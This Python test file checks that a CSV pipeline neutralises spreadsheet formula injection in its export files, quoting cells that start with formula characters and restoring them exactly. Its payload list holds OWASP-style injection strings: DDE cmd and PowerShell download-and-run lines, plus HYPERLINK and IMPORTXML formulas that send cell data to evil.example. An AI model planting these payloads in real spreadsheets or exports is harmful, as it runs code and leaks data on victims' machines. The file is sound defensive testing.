"""Every CSV orderpipe writes for people neutralises formulas (OWASP "CSV injection"), the
original stays recoverable, and stored orders keep their values as read."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import polars as pl
import pytest
import xlsxwriter
from click.testing import CliRunner

from core.cli import cli
from core.pipeline.events import FileRef
from core.pipeline.ingest import IngestService, rejects_key_for
from core.pipeline.orders_store import OrdersWriter
from core.validation.csv_out import (
    RejectsCsv,
    ValidCsv,
    neutralise_formulas,
    restore_formula,
)
from core.validation.engine import validate
from tests.unit.ingest_fakes import FakeClock, FakeDynamo, FakeNotices, FakeObjects, InMemoryLedger
from tests.unit.test_ingest import SETTINGS

# The OWASP CSV-injection payloads (and the two), each a cell a spreadsheet would run.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for invoice")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x.exe)'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-1+2",
    "=10+20+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "\t=1+2",
    "\r=1+2",
    '=1+2";=1+2',
    "'=1+2",
    "''@x",
]
PLAIN = ["-15.00", "+15", "-0", "15,50", "Ord1", "", "a=b", " =1+2", "1-2-3"]


def _cells(value: str) -> pl.DataFrame:
    return pl.DataFrame({"v": [value]})


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_gets_one_leading_quote_and_comes_back_exactly(payload: str) -> None:
    cell = neutralise_formulas(_cells(payload))["v"][0]
    assert cell == "'" + payload
    assert restore_formula(cell) == payload


@pytest.mark.parametrize("value", PLAIN)
def test_numbers_and_harmless_text_are_left_alone(value: str) -> None:
    assert neutralise_formulas(_cells(value))["v"][0] == value
    assert restore_formula(value) == value


def test_non_text_columns_are_untouched() -> None:
    frame = pl.DataFrame({"line": [-1], "v": ["=1"]})
    assert neutralise_formulas(frame).to_dicts() == [{"line": -1, "v": "'=1"}]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def _payload_file() -> bytes:
    header = "Order_Id,Customer_Id,Order_Date,Order_Status,Order_Total\n"
    lines = [f'Ord{i},"{p.replace(chr(34), chr(34) * 2)}",19/04/23,Done,-15.00' for i, p in
             enumerate(PAYLOADS)]  # fmt: skip
    return (header + "\n".join(lines) + "\n").encode()


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert cell in ("-15.00",), f"live formula {cell!r}"


def test_rejects_csv_bytes_hold_no_live_formula_and_restore_to_the_upload() -> None:
    out = io.BytesIO()
    writer = RejectsCsv(out, ("Order_Id", "Customer_Id", "Order_Date", "Order_Status",
                              "Order_Total"))  # fmt: skip
    outcome = validate(_payload_file(), "orders.csv", on_chunk=lambda c: writer.write(c.rejects))
    assert outcome.invalid == len(PAYLOADS)
    rows = _rows(out.getvalue())[1:]
    _assert_safe(rows)
    assert [restore_formula(r[2]) for r in rows] == PAYLOADS
    assert {r[5] for r in rows} == {"-15.00"}  # a plain number is not quoted


def _through_a_spreadsheet(data: bytes, tmp_path: Path) -> list[list[object]]:
    """CSV -> XLSX the way a spreadsheet imports it (xlsxwriter's ``write`` turns ``=...``
    text into a formula and number-like text into numbers), read back with openpyxl."""
    path = tmp_path / "book.xlsx"
    book = xlsxwriter.Workbook(str(path), {"strings_to_numbers": True})
    sheet = book.add_worksheet()
    for r, row in enumerate(_rows(data)):
        for c, cell in enumerate(row):
            sheet.write(r, c, cell)
    book.close()
    loaded = openpyxl.load_workbook(path)
    return [[cell.value for cell in row] for row in loaded.active.iter_rows()]


def test_after_a_spreadsheet_round_trip_payloads_are_text_and_totals_numbers(
    tmp_path: Path,
) -> None:
    out = io.BytesIO()
    writer = RejectsCsv(out, ("Order_Id", "Customer_Id", "Order_Date", "Order_Status",
                              "Order_Total"))  # fmt: skip
    validate(_payload_file(), "orders.csv", on_chunk=lambda c: writer.write(c.rejects))
    sheet = _through_a_spreadsheet(out.getvalue(), tmp_path)
    customer = [row[2] for row in sheet[1:]]
    assert all(isinstance(v, str) and v.startswith("'") for v in customer)
    # xlsx stores a carriage return as the escape _x000D_, which openpyxl leaves as it is
    back = [restore_formula(str(v).replace("_x000D_", "\r")) for v in customer]
    assert back == PAYLOADS
    assert {row[5] for row in sheet[1:]} == {-15}


def test_the_round_trip_would_run_an_unneutralised_payload(tmp_path: Path) -> None:
    """The check above can fail: the same import makes a live formula of a raw cell."""
    sheet = _through_a_spreadsheet(b'a\n"=HYPERLINK(""http://evil.example"")"\n', tmp_path)
    path = tmp_path / "book.xlsx"
    cell = openpyxl.load_workbook(path).active["A2"]
    assert cell.data_type == "f"
    assert sheet[1][0] == '=HYPERLINK("http://evil.example")'


def test_validate_out_neutralises_valid_and_rejects(tmp_path: Path) -> None:
    source = tmp_path / "orders.csv"
    source.write_bytes(
        b"Order_Id,Customer_Id,Order_Date,Order_Status,Order_Total\n"
        b"=1+1,\"@SUM(1+1)*cmd|' /C calc'!A0\",19/04/23,Pending,10.50\n"
        b"+2,-C2,bad,Pending,1\n"
    )
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["validate", str(source), "--out", str(out)])
    assert result.exit_code == 1, result.output
    valid = _rows((out / "orders.csv.valid.csv").read_bytes())
    rejects = _rows((out / "orders.csv.rejects.csv").read_bytes())
    assert valid[1] == ["'=1+1", "'@SUM(1+1)*cmd|' /C calc'!A0", "2023-04-19", "Pending", "10.50"]
    assert rejects[1][:3] == ["3", "+2", "'-C2"]  # +2 is a plain number


def test_ingest_neutralises_the_rejects_object_but_stores_valid_rows_as_read(
    tmp_path: Path,
) -> None:
    objects, ddb = FakeObjects(), FakeDynamo()
    service = IngestService(
        settings=SETTINGS,
        ledger=InMemoryLedger(FakeClock()),
        objects=objects,
        writer=OrdersWriter(ddb, "orders", threads=1),
        rejects=objects,
        notices=FakeNotices(),
        validate=validate,
        clock=FakeClock(),
        tmp_dir=str(tmp_path),
    )
    body = b"Ord1,=HYPERLINK(1),19/04/23,Pending,1\nOrd2,@C2,19/04/23,Nope,1\n"
    ref = FileRef("b", "incoming/x.csv", "v1", "etag", len(body), "2026-05-01T11:00:00.000Z")
    objects.bodies[ref.file_id] = body
    service.ingest(ref)
    assert ddb.items["Ord1"]["Customer_Id"] == {"S": "=HYPERLINK(1)"}
    rows = _rows(objects.rejects[rejects_key_for("incoming/x.csv")])
    assert rows[1][:3] == ["2", "Ord2", "'@C2"]


def test_valid_csv_writes_the_header_as_is() -> None:
    out = io.BytesIO()
    ValidCsv(out, ["A", "B"]).write(
        pl.DataFrame({"A": ["=x"], "B": [None]}, schema={"A": pl.String, "B": pl.String})
    )
    assert out.getvalue() == b"A,B\n'=x,\n"
